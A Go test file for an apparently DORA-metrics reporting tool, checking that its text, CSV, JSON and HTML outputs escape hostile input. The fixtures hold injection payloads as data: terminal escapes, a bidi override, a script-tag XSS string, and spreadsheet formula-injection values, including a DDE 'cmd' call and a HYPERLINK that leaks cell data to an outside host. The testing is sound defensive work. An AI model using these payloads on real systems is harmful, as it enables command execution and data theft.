package render_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gitdora/gitdora/compute"
	"github.com/gitdora/gitdora/config"
	"github.com/gitdora/gitdora/fact"
	"github.com/gitdora/gitdora/render"
	"github.com/gitdora/gitdora/render/rendertest"
)

// hostileExplained is March 2026 with two deployments, their changes and
// an incident, and a finding fixed by the second trunk scan: every text
// from commits, incidents and SARIF carries extra.
func hostileExplained(t *testing.T, extra string) *compute.Explained {
	t.Helper()
	at := func(day, hour int) time.Time { return time.Date(2026, 3, day, hour, 0, 0, 0, time.UTC) }
	f := &fact.Facts{
		Deployments: []fact.Deployment{
			{ID: "d1" + extra, Time: at(2, 10), Status: fact.StatusSuccess, Production: true, Source: fact.SourceEvents, Baseline: true},
			{ID: "d2", Time: at(3, 10), Status: fact.StatusSuccess, Production: true, Source: fact.SourceEvents, Baseline: true},
		},
		Changes: []fact.Change{
			{SHA: "c1", DeploymentID: "d1" + extra, Subject: "Fix login" + extra + "\x1b[2J\u202e", Author: "Ada <ada@example.com>", LeadTime: 2 * time.Hour, Counted: fact.CountedYes},
			{SHA: "c2", DeploymentID: "d2", Subject: "Add\nline", LeadTime: 4 * time.Hour, Counted: fact.CountedYes},
		},
	}
	resolved := at(3, 12)
	f.Incidents = []fact.Incident{{ID: "INC-1", Title: "Down" + extra, Opened: at(3, 11), Resolved: &resolved, Severity: fact.SeverityHigh,
		Category: fact.CategorySecurity, Production: true, DeploymentID: "d2", Attribution: fact.AttrTime}}
	class := &fact.Class{Tool: "semgrep" + extra, RuleID: "rule" + extra, Severity: fact.SeverityHigh}
	f.Scans = []fact.Scan{
		{ID: "s1", Tool: "semgrep" + extra, Ref: "main", Time: at(4, 2), Type: fact.ScanFull, File: "a.sarif", Results: 1,
			Set: &fact.FindingSet{List: []fact.Finding{fact.NewFinding(class, "fp1", "src/secret"+extra+".go", 7, "message"+extra)}}},
		{ID: "s2", Tool: "semgrep" + extra, Ref: "main", Time: at(5, 2), Type: fact.ScanFull, File: "b.sarif"},
	}
	h := compute.NewHistory(f, config.Default(), time.UTC)
	_, x := h.Explained(compute.YearMonth{Year: 2026, Month: time.March}.Period(time.UTC))
	return x
}

// explainCSV is the CSV of the rows behind the figure key of x, read
// back.
func explainCSV(t *testing.T, x *compute.Explained, key string, o render.ExplainOptions) [][]string {
	t.Helper()
	e, err := x.Of(key)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := render.ExplainCSV(&b, e, o); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// explain prints, in each format, the rows exactly, and escapes in text
// and CSV whatever would act on a terminal; JSON keeps the text and
// escapes it as JSON.
func TestExplainFormats(t *testing.T) {
	x := hostileExplained(t, "")
	e, err := x.Of("lead_time.p50_hours")
	if err != nil {
		t.Fatal(err)
	}
	o := render.ExplainOptions{FindingDetails: true, Authors: true, Loc: time.UTC}
	var text bytes.Buffer
	if err := render.ExplainText(&text, e, o); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"lead_time.p50_hours of 2026-03 = 3: the 50th percentile of lead_time_hours over the 2 rows below",
		"between ranks 1 and 2 of 2, weight 0.5: 2 + 0.5 × (4 − 2)",
		`Fix login\x1b[2J\u202e`, `Add\nline`, "Ada <ada@example.com>",
	} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("text lacks %q:\n%s", want, text.String())
		}
	}
	if strings.ContainsAny(text.String(), "\x1b\u202e") || strings.Count(text.String(), "\n") != 6 {
		t.Errorf("text is not escaped, or not one line per row:\n%q", text.String())
	}

	recs := explainCSV(t, x, "lead_time.p50_hours", o)
	if strings.Join(recs[0], ",") != "rank,lead_time_hours,sha,deployment_id,deployed,counted,author,subject" || len(recs) != 3 ||
		strings.Join(recs[1][:4], ",") != "1,2,c1,d1" || recs[2][7] != `Add\nline` {
		t.Errorf("csv %q", recs)
	}

	var j bytes.Buffer
	if err := render.ExplainJSON(&j, e, o); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Metric     string
		Value      float64
		Rule       string
		Percentile float64
		Ranks      struct {
			Lower, Upper int
			Weight       float64
		}
		Columns []string
		Rows    [][]any
	}
	if err := json.Unmarshal(j.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Metric != "lead_time.p50_hours" || doc.Value != 3 || doc.Rule != "percentile" || doc.Percentile != 50 || doc.Ranks.Lower != 1 || doc.Ranks.Upper != 2 || doc.Ranks.Weight != 0.5 ||
		doc.Rows[0][1] != 2.0 || doc.Rows[0][7] != "Fix login\x1b[2J\u202e" {
		t.Errorf("json %+v", doc)
	}
	if bytes.Contains(j.Bytes(), []byte("\u202e")) {
		t.Error("json holds a raw bidirectional override")
	}

	// Finding details only when asked for.
	ep, _ := x.Of("vulnerabilities.fixed.high")
	var with, without bytes.Buffer
	render.ExplainCSV(&with, ep, o)
	render.ExplainCSV(&without, ep, render.ExplainOptions{})
	if !strings.Contains(with.String(), "rule_id,uri,line") || !strings.Contains(with.String(), "src/secret.go,7") ||
		strings.Contains(without.String(), "rule") || strings.Contains(without.String(), "src/secret.go") {
		t.Errorf("with details:\n%s\nwithout:\n%s", with.String(), without.String())
	}
}

// The page of a month's rows is escaped: hostile text from commits,
// incidents and SARIF shows as text, every figure has its anchor, and
// finding episodes show no rule, file or message; the month page links
// its summary's figures to it.
func TestExplainPage(t *testing.T) {
	x := hostileExplained(t, rendertest.Evil)
	r := newRenderer(t)
	var b bytes.Buffer
	p := render.Page{Title: "rows", Root: "../", Site: true, Assets: render.Assets{CSSHref: "assets/style.css", EchartsSrc: "assets/echarts.min.js", ChartsJSSrc: "assets/charts.js"}}
	if err := r.ExplainHTML(&b, x, p, false); err != nil {
		t.Fatal(err)
	}
	text := htmlCheck(t, "explain page", b.Bytes(), union(pageElements, set("section")))
	wantShown(t, "explain page", text, 3) // a subject, a title, a deployment id (twice)
	for _, want := range []string{`id="lead_time.p50_hours"`, `id="change_failure_rate.rate"`, `id="vulnerabilities.mttr_hours.high"`, `href="../assets/style.css"`, `href="../2026-03.html"`} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("page lacks %s", want)
		}
	}
	for _, hidden := range []string{"src/secret", "rule&lt;", "message&lt;", "ada@example.com"} {
		if strings.Contains(b.String(), hidden) {
			t.Errorf("page shows %q", hidden)
		}
	}
	// as explain prints them: no control character or bidirectional
	// override acts on the page, nor a line break splits a cell
	if strings.ContainsAny(b.String(), "\x1b\u202e") || !strings.Contains(b.String(), `Fix login`) ||
		!strings.Contains(b.String(), `\x1b[2J\u202e</td>`) || !strings.Contains(b.String(), `<td>Add\nline</td>`) {
		t.Error("the page's rows are not escaped as explain escapes them")
	}

	rep := render.Report{Month: *x.Month(), Explain: func() *compute.Explained { return x }}
	var md bytes.Buffer
	if err := r.Markdown(&md, rep); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(md.String(), "| Lead time for changes, p50 | [3"+"\u00a0"+"h](explain/2026-03.html#lead_time.p50_hours) |") {
		t.Errorf("the summary does not link lead time to its rows:\n%s", md.String())
	}
	rep.Explain = nil
	md.Reset()
	r.Markdown(&md, rep)
	if strings.Contains(md.String(), "explain/") {
		t.Error("a report without rows links to them")
	}
}

// Text from outside in a figure's key (a SARIF tool's name), its
// summary, its section or its rows acts on nothing on the page, and each
// figure's link from the index reaches its anchor.
func TestExplainPageEscapesKeys(t *testing.T) {
	x := hostileExplained(t, "\x1b]8;;https://x.example\x07\u202e")
	var b bytes.Buffer
	p := render.Page{Title: "rows", Root: "../", Site: true, Assets: render.Assets{CSSHref: "assets/style.css", EchartsSrc: "assets/echarts.min.js", ChartsJSSrc: "assets/charts.js"}}
	if err := newRenderer(t).ExplainHTML(&b, x, p, false); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, r := range page {
		if r < 0x20 && r != '\n' || r == 0x7f || r == '\u202e' {
			t.Fatalf("the page holds %q", r)
		}
	}
	key := "scans.by_tool.semgrep\x1b]8;;https://x.example\x07\u202e.count"
	anchor := `id="scans.by_tool.semgrep\x1b]8;;https://x.example\x07\u202e.count"`
	if !strings.Contains(page, anchor) {
		t.Errorf("no anchor %s", anchor)
	}
	href := render.ExplainHref("2026-03", key)
	if want := "explain/2026-03.html#scans.by_tool.semgrep\\x1b]8;;https://x.example\\x07\\u202e.count"; href != want {
		t.Errorf("href %q, want %q", href, want)
	}
}

// policyExplained is March 2026 under a policy (high findings due in a
// day; rule debug exempt through April 10, justified by why): D1 (03-02
// 12:00) ships commit a, D2 (03-10 12:00) commit b; the trunk scan of a
// (03-01 10:00) has F1 (high, xss, CWE-79), F2 (medium, debug) and F4
// (high, sqli, CWE-89); the scan of b (03-05 10:00) has F2 and F4, and
// F3 (low) suppressed.
func policyExplained(t *testing.T, why, findings string) *compute.Explained {
	t.Helper()
	at := func(day, hour int) time.Time { return time.Date(2026, 3, day, hour, 0, 0, 0, time.UTC) }
	a, b := strings.Repeat("a", 40), strings.Repeat("b", 40)
	f := &fact.Facts{
		Deployments: []fact.Deployment{
			{ID: "D1", SHA: a, Time: at(2, 12), Status: fact.StatusSuccess, Production: true, Source: fact.SourceEvents},
			{ID: "D2", SHA: b, Time: at(10, 12), Status: fact.StatusSuccess, Production: true, Source: fact.SourceEvents, Baseline: true},
		},
		Changes: []fact.Change{{SHA: a, DeploymentID: "D1"}, {SHA: b, DeploymentID: "D2", Counted: fact.CountedYes, LeadTime: time.Hour}},
		Scans: []fact.Scan{
			{ID: "s1", Tool: "semgrep", Ref: "main", Commit: a, Time: at(1, 10), Type: fact.ScanFull, File: "1.sarif"},
			{ID: "s2", Tool: "semgrep", Ref: "main", Commit: b, Time: at(5, 10), Type: fact.ScanFull, File: "2.sarif"},
		},
	}
	class := func(rule string, sev fact.Severity, cwe string) *fact.Class {
		c := &fact.Class{Tool: "semgrep", RuleID: rule, Severity: sev, CWE: cwe}
		if cwe != "" {
			c.CWEs = []string{cwe}
		}
		return c
	}
	suppressed := fact.NewFinding(class("tmp", fact.SeverityLow, ""), "f3", "app/tmp.go", 3, "temp file")
	suppressed.Suppressed = true
	f.Scans[0].Set = &fact.FindingSet{List: []fact.Finding{
		fact.NewFinding(class("xss", fact.SeverityHigh, "CWE-79"), "f1", "src/x.go", 1, "xss"),
		fact.NewFinding(class("debug", fact.SeverityMedium, ""), "f2", "app/y.go", 2, "debug"),
		fact.NewFinding(class("sqli", fact.SeverityHigh, "CWE-89"), "f4", "src/db.go", 4, "sqli"),
	}}
	f.Scans[1].Set = &fact.FindingSet{List: []fact.Finding{
		fact.NewFinding(class("debug", fact.SeverityMedium, ""), "f2", "app/y.go", 2, "debug"),
		fact.NewFinding(class("sqli", fact.SeverityHigh, "CWE-89"), "f4", "src/db.go", 4, "sqli"),
		suppressed,
	}, Suppressed: 1}
	cfg, err := config.Parse([]byte(`report: {findings: `+findings+`}
policy:
  sla: {high: 1d}
  exemptions:
    findings:
      - rule_id: debug
        justification: "`+why+`"
        approved_by: sec
        expires: 2026-04-10
`), "gitdora.yml")
	if err != nil {
		t.Fatal(err)
	}
	h := compute.NewHistory(f, cfg, time.UTC)
	_, x := h.Explained(compute.YearMonth{Year: 2026, Month: time.March}.Period(time.UTC))
	return x
}

// The rows of the policy's figures show what each figure took from them:
// the due time and whether fixed within it, the exemption (what it names
// and why only with finding details), the CWEs, the exposure with the
// deployments that bound it, the suppressed results.
func TestExplainPolicyRows(t *testing.T) {
	x := policyExplained(t, "behind the VPN", "full")
	details := render.ExplainOptions{FindingDetails: true, Loc: time.UTC}
	cell := func(recs [][]string, row int, col string) string {
		for i, c := range recs[0] {
			if c == col {
				return recs[row][i]
			}
		}
		return "<no column " + col + ">"
	}
	for _, tc := range []struct {
		key   string
		o     render.ExplainOptions
		rows  int
		cells map[string]string // of the first row
		not   []string          // columns it must not have
	}{
		// F1: due 03-02 10:00, fixed 03-05 10:00: not within.
		{"vulnerabilities.sla.fixed_within_pct.high", details, 1, map[string]string{"within": "no", "due": "2026-03-02T10:00:00Z", "rule_id": "xss", "fixed_at": "2026-03-05T10:00:00Z"}, nil},
		{"vulnerabilities.sla.breached_open.high", details, 1, map[string]string{"due": "2026-03-02T10:00:00Z", "rule_id": "sqli"}, nil},
		{"vulnerabilities.accepted_risk.expiring_30d", details, 1, map[string]string{"exemption": "finding, gitdora.yml line 6", "expires": "2026-04-10", "approved_by": "sec",
			"exempts": "rule debug", "justification": "behind the VPN", "uri": "app/y.go"}, nil},
		{"vulnerabilities.accepted_risk.exempted", render.ExplainOptions{}, 1, map[string]string{"exemption": "finding, gitdora.yml line 6", "expires": "2026-04-10"},
			[]string{"exempts", "justification", "rule_id", "uri"}},
		{"vulnerabilities.accepted_risk.suppressed", details, 1, map[string]string{"scan_id": "s2", "observed": "2026-03-05T10:00:00Z", "rule_id": "tmp", "uri": "app/tmp.go", "severity": "low"}, nil},
		{"vulnerabilities.accepted_risk.suppressed", render.ExplainOptions{}, 1, map[string]string{"scan_id": "s2"}, []string{"rule_id", "uri"}},
		{"vulnerabilities.owasp_top10.2021.A03", details, 1, map[string]string{"cwes": "CWE-89", "rule_id": "sqli"}, nil},
		// F1 live from D1 (which shipped a) until D2 (which shipped b): 8 days.
		{"vulnerabilities.exposure.mean_hours.high", details, 1, map[string]string{"exposure_hours": "192", "live_from": "2026-03-02T12:00:00Z",
			"live_until": "2026-03-10T12:00:00Z", "shipped_by": "D1", "fix_shipped_by": "D2"}, nil},
		{"vulnerabilities.exposure.live_at_end.high", details, 1, map[string]string{"rule_id": "sqli", "live_from": "2026-03-02T12:00:00Z", "live_until": "", "shipped_by": "D1"}, nil},
		// F1 fixed 03-05 10:00, in production with D2 on 03-10 12:00: 122 h.
		{"vulnerabilities.exposure.fix_to_production_p50_hours", details, 1, map[string]string{"rank": "1", "fix_to_production_hours": "122", "fix_shipped_at": "2026-03-10T12:00:00Z"}, nil},
		{"deployment_frequency.source", details, 2, map[string]string{"source": "events"}, nil},
	} {
		recs := explainCSV(t, x, tc.key, tc.o)
		if len(recs) != tc.rows+1 {
			t.Errorf("%s: %d rows, want %d:\n%q", tc.key, len(recs)-1, tc.rows, recs)
			continue
		}
		for col, want := range tc.cells {
			if got := cell(recs, 1, col); got != want {
				t.Errorf("%s: %s = %q, want %q (columns %v)", tc.key, col, got, want, recs[0])
			}
		}
		for _, col := range tc.not {
			if slices.Contains(recs[0], col) {
				t.Errorf("%s: column %s without finding details", tc.key, col)
			}
		}
	}

	// Text and JSON say how the figure follows from the rows.
	e, _ := x.Of("vulnerabilities.sla.fixed_within_pct.high")
	var text bytes.Buffer
	render.ExplainText(&text, e, details)
	if !strings.Contains(text.String(), "vulnerabilities.sla.fixed_within_pct.high of 2026-03 = 0: 100 × the 0 rows below with within yes, over all 1") {
		t.Errorf("text:\n%s", text.String())
	}
	e, _ = x.Of("deployment_frequency.source")
	var j bytes.Buffer
	render.ExplainJSON(&j, e, details)
	var doc struct {
		Value any
		Rule  string
	}
	if err := json.Unmarshal(j.Bytes(), &doc); err != nil || doc.Value != "events" || doc.Rule != "source" {
		t.Errorf("deployment_frequency.source as JSON: %v %+v\n%s", err, doc, j.String())
	}
}

// A published page names findings' rules and files, and what exemptions
// name and why, only with report.findings: full; escaped either way.
func TestExplainPageFindingDetails(t *testing.T) {
	r := newRenderer(t)
	p := render.Page{Title: "rows", Root: "../", Site: true, Assets: render.Assets{CSSHref: "assets/style.css", EchartsSrc: "assets/echarts.min.js", ChartsJSSrc: "assets/charts.js"}}
	for _, findings := range []string{"counts", "full"} {
		var b bytes.Buffer
		if err := r.ExplainHTML(&b, policyExplained(t, `<script>alert(1)</script>`, findings), p, findings == "full"); err != nil {
			t.Fatal(err)
		}
		page := b.String()
		full := findings == "full"
		for _, s := range []string{"src/db.go", "app/tmp.go", "rule debug", "&lt;script&gt;alert(1)&lt;/script&gt;"} {
			if strings.Contains(page, s) != full {
				t.Errorf("report.findings: %s: the page shows %q: %v, want %v", findings, s, !full, full)
			}
		}
		for _, key := range []string{"vulnerabilities.sla.breached_open.high", "vulnerabilities.accepted_risk.expiring_30d", "vulnerabilities.owasp_top10.2025.A05", "vulnerabilities.exposure.fix_to_production_p50_hours", "deployment_frequency.source"} {
			if !strings.Contains(page, `id="`+key+`"`) {
				t.Errorf("report.findings: %s: no anchor %s", findings, key)
			}
		}
		if strings.Contains(page, "<script>alert") {
			t.Error("the justification is not escaped")
		}
	}
}

// The rows of the cycle-time figures are the pull requests merged in the
// month with the hours of each stage, the figure's stage first and
// ranked; those of lead_time.squash_resolved the changes with the pull
// request they started from. Authors show only when asked for; the page
// escapes what a pull request's id or author says.
func TestExplainCycleRows(t *testing.T) {
	at := func(day, hour int) time.Time { return time.Date(2026, 3, day, hour, 0, 0, 0, time.UTC) }
	f := &fact.Facts{
		Deployments: []fact.Deployment{
			{ID: "D1", SHA: "a", Time: at(1, 10), Status: fact.StatusSuccess, Production: true, Source: fact.SourceEvents},
			{ID: "D2", SHA: "m1", Time: at(5, 12), Status: fact.StatusSuccess, Production: true, Source: fact.SourceEvents, Baseline: true},
		},
		Changes: []fact.Change{{SHA: "a", DeploymentID: "D1", Counted: fact.CountedFirstDeployment},
			{SHA: "m1", DeploymentID: "D2", Subject: "Add x (#1)", Counted: fact.CountedYes, LeadTime: 87 * time.Hour, StartedBy: "gh-pull-1"}},
		Pulls: []fact.Pull{
			// coding 12 h, pickup 2 h, review 24 h, deploy 49 h (to D2)
			{ID: "gh-pull-1", Number: 1, Opened: at(2, 9), Ready: at(2, 9), FirstCommit: at(1, 21), FirstReview: at(2, 11), Merged: at(3, 11), MergeSHA: "m1", Author: "ada" + rendertest.Evil},
			// no first commit, pickup 4 h, review 1 h, no merge commit
			{ID: "gh-pull-2" + rendertest.Evil, Number: 2, Opened: at(4, 8), Ready: at(4, 10), FirstReview: at(4, 14), Merged: at(4, 15), Author: "grace"},
			{ID: "gh-pull-3", Number: 3, Opened: at(4, 8), Ready: at(4, 8), Author: "grace"}, // not merged
		},
	}
	h := compute.NewHistory(f, config.Default(), time.UTC)
	_, x := h.Explained(compute.YearMonth{Year: 2026, Month: time.March}.Period(time.UTC))
	o := render.ExplainOptions{Loc: time.UTC}
	pickup := explainCSV(t, x, "cycle_time.pickup_p50_hours", o)
	want := [][]string{
		{"rank", "pickup_hours", "coding_hours", "review_hours", "deploy_hours", "pull_id", "number", "opened", "first_commit", "ready", "first_review", "merged", "merge_sha", "deployment_id", "deployed"},
		{"1", "2", "12", "24", "49", "gh-pull-1", "1", "2026-03-02T09:00:00Z", "2026-03-01T21:00:00Z", "2026-03-02T09:00:00Z", "2026-03-02T11:00:00Z", "2026-03-03T11:00:00Z", "m1", "D2", "2026-03-05T12:00:00Z"},
		{"2", "4", "", "1", "", "gh-pull-2" + rendertest.Evil, "2", "2026-03-04T08:00:00Z", "", "2026-03-04T10:00:00Z", "2026-03-04T14:00:00Z", "2026-03-04T15:00:00Z", "", "", ""},
	}
	if !slices.EqualFunc(pickup, want, slices.Equal) {
		t.Errorf("pickup rows:\n%q\nwant\n%q", pickup, want)
	}
	if all := explainCSV(t, x, "cycle_time.pull_requests", render.ExplainOptions{Authors: true}); len(all) != 3 ||
		strings.Join(all[0][:4], ",") != "coding_hours,pickup_hours,review_hours,deploy_hours" || all[0][len(all[0])-1] != "author" || all[2][len(all[2])-1] != "grace" {
		t.Errorf("pull_requests rows: %q", all)
	}
	if coding := explainCSV(t, x, "cycle_time.coding_p50_hours", o); len(coding) != 2 || coding[1][1] != "12" || coding[1][5] != "gh-pull-1" {
		t.Errorf("coding rows: %q", coding)
	}
	squash := explainCSV(t, x, "lead_time.squash_resolved", o)
	if len(squash) != 2 || !slices.Contains(squash[0], "started_by") || squash[1][slices.Index(squash[0], "started_by")] != "gh-pull-1" {
		t.Errorf("squash_resolved rows: %q", squash)
	}
	e, _ := x.Of("cycle_time.pickup_p50_hours")
	if lines := render.ExplainSummary(&e); len(lines) != 2 || lines[0] != "cycle_time.pickup_p50_hours of 2026-03 = 3: the 50th percentile of pickup_hours over the 2 rows below (ascending; linear interpolation between closest ranks)" ||
		lines[1] != "  between ranks 1 and 2 of 2, weight 0.5: 2 + 0.5 × (4 − 2)" {
		t.Errorf("summary %q", lines)
	}

	var page bytes.Buffer
	p := render.Page{Title: "rows", Root: "../", Site: true, Assets: render.Assets{CSSHref: "assets/style.css", EchartsSrc: "assets/echarts.min.js", ChartsJSSrc: "assets/charts.js"}}
	if err := newRenderer(t).ExplainHTML(&page, x, p, false); err != nil {
		t.Fatal(err)
	}
	text := htmlCheck(t, "explain page", page.Bytes(), union(pageElements, set("section")))
	wantShown(t, "explain page", text, 3) // the second pull's id, in the lists of the pulls, pickup and review
	for _, key := range []string{"cycle_time.pull_requests", "cycle_time.coding_p50_hours", "cycle_time.pickup_p50_hours", "cycle_time.review_p50_hours", "cycle_time.deploy_p50_hours", "lead_time.squash_resolved"} {
		if !strings.Contains(page.String(), `id="`+key+`"`) {
			t.Errorf("the page has no anchor %s", key)
		}
	}
	if strings.Contains(page.String(), "ada&lt;") || strings.Contains(text, "ada<") {
		t.Error("the published page shows a pull's author")
	}
}

// An explanation's CSV goes to spreadsheets: a cell that one would read
// as a formula starts with an apostrophe; numbers are left alone, and
// JSON keeps the text as it was.
func TestExplainCSVStartsNoFormula(t *testing.T) {
	at := time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)
	f := &fact.Facts{
		Deployments: []fact.Deployment{{ID: "-2+3+cmd|' /C calc'!A0", Time: at, Status: fact.StatusSuccess, Production: true, Source: fact.SourceEvents, Baseline: true}},
		Changes: []fact.Change{{SHA: "c1", DeploymentID: "-2+3+cmd|' /C calc'!A0", Subject: `=HYPERLINK("https://x.example/?"&A1)`,
			Author: "@evil <e@example.com>", LeadTime: 90 * time.Minute, Counted: fact.CountedYes}},
	}
	_, x := compute.NewHistory(f, config.Default(), time.UTC).Explained(compute.YearMonth{Year: 2026, Month: time.March}.Period(time.UTC))
	e, err := x.Of("lead_time.p50_hours")
	if err != nil {
		t.Fatal(err)
	}
	o := render.ExplainOptions{Authors: true, Loc: time.UTC}
	recs := explainCSV(t, x, "lead_time.p50_hours", o)
	want := []string{"1", "1.5", "c1", `'-2+3+cmd|' /C calc'!A0`, "2026-03-02T10:00:00Z", "yes", "'@evil <e@example.com>", `'=HYPERLINK("https://x.example/?"&A1)`}
	if len(recs) != 2 || !slices.Equal(recs[1], want) {
		t.Errorf("csv rows %q, want %q", recs, want)
	}
	var j bytes.Buffer
	if err := render.ExplainJSON(&j, e, o); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(j.String(), `"=HYPERLINK(\"https://x.example/?\"\u0026A1)"`) {
		t.Errorf("json does not keep the subject as it was:\n%s", j.String())
	}
}
